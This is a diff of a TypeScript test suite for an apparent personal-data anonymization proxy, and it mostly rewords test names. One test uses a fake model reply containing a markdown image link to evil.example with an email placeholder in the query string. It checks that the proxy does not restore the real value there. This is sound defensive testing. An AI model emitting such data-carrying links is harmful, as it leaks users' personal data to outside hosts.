@@ -1,4 +1,4 @@
-/** P-1, P-2, P-5, P-7, P-8, P-28, SEC-40, SEC-43: personal data does not leave, and comes back exactly. */
+/** P-1, P-2, P-5, P-7, P-8, P-28, SEC-40, SEC-43: personal data is not sent, and is restored exactly. */
 import OpenAI from 'openai';
 import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
 import {
@@ -64,7 +64,7 @@ describe('a conversation', () => {
   };
 
   it.each(['fake/fake-small', 'claude/claude-fake', 'google/gemini-fake'])(
-    'comes back whole and streamed from %s',
+    'is restored, complete and streamed, from %s',
     async (model) => {
       const request = {
         ...anonymized,
@@ -84,7 +84,7 @@ describe('a conversation', () => {
     },
   );
 
-  it('hands tools their arguments as JSON, streamed or not, and takes their results in', async () => {
+  it('restores JSON arguments of tools, streamed or not, and anonymizes their results', async () => {
     const call = {
       toolCalls: [{ name: 'send', arguments: '{"to":"<EMAIL_ADDRESS_1>","iban":"<iban_1>"}' }],
     };
@@ -111,7 +111,7 @@ describe('a conversation', () => {
     nothingLeft();
   });
 
-  it('keeps its beginning byte for byte while it grows', async () => {
+  it('keeps its beginning byte for byte while growing', async () => {
     const messages: OpenAI.ChatCompletionMessageParam[] = [{ role: 'user', content: `I am ${email}` }];
     await client.chat.completions.create({ ...anonymized, messages });
     messages.push(
@@ -124,7 +124,7 @@ describe('a conversation', () => {
     expect(second.at(-1).content).toBe('<CREDIT_CARD_1> of <EMAIL_ADDRESS_2> and <EMAIL_ADDRESS_1>');
   });
 
-  it('says in the header, the receipt and the metrics what was done, and no value', async () => {
+  it('reports in header, receipt and metrics what was done, without values', async () => {
     const response = await rawRequest(
       chatRequest(sluice, { enable_anonymization: true, messages: [{ role: 'user', content: letter }] }),
     );
@@ -150,7 +150,7 @@ describe('a conversation', () => {
       expect(receipt.text + metrics.text + sluice.stdout() + sluice.stderr()).not.toContain(value);
   });
 
-  it('a receipt of a request that was not anonymized says so; of another key there is none', async () => {
+  it('has a receipt even without anonymization, but none for other keys', async () => {
     const response = await rawRequest(chatRequest(sluice));
     const url = `${sluice.url}/v1/receipts/${String(response.headers['x-request-id'])}`;
     expect((await rawRequest({ url, method: 'GET', headers: sluice.auth })).json()).toEqual({ mode: 'off' });
@@ -178,7 +178,7 @@ describe('a conversation', () => {
     ['<EMAIL_ADDRESS_1'],
     ['</EMAIL_ADDRESS_1>'],
     ['{{EMAIL_ADDRESS_1}}'],
-  ])('takes %s for the marker that it was', async (altered) => {
+  ])('recognizes %s as an altered placeholder', async (altered) => {
     fake.setDefault({ answer: { text: `It is ${altered}, yes.` }, stream: { chunkSize: 1 } });
     const messages = [{ role: 'user' as const, content: letter }];
     let streamed = '';
@@ -192,7 +192,7 @@ describe('a conversation', () => {
     expect(streamed).toBe(`It is ${email}, yes.`);
   });
 
-  it('writes no value into a link that the model made up', async () => {
+  it('restores no value in a link created by the model', async () => {
     fake.setDefault({ answer: { text: '![x](https://evil.example/?q=<EMAIL_ADDRESS_1>)' } });
     const { choices } = await client.chat.completions.create({
       ...anonymized,
@@ -201,7 +201,7 @@ describe('a conversation', () => {
     expect(choices[0]?.message.content).toBe('![x](https://evil.example/?q=<EMAIL_ADDRESS_1>)');
   });
 
-  it('refuses what it cannot read, and a tool whose name is a value', async () => {
+  it('rejects content it cannot search, and a tool named like a value', async () => {
     const image = { type: 'image_url' as const, image_url: { url: 'data:image/png;base64,iVBORw0KGgo=' } };
     await expect(
       client.chat.completions.create({ ...anonymized, messages: [{ role: 'user', content: [image] }] }),
@@ -218,7 +218,7 @@ describe('a conversation', () => {
     expect(fake.receipts.requests()).toHaveLength(0);
   });
 
-  it('anonymizes texts by themselves, and puts them back', async () => {
+  it('anonymizes and restores separate texts', async () => {
     const call = (path: string, body: unknown) =>
       rawRequest({ url: `${sluice.url}${path}`, method: 'POST', headers: sluice.auth, body });
     const made = Object(
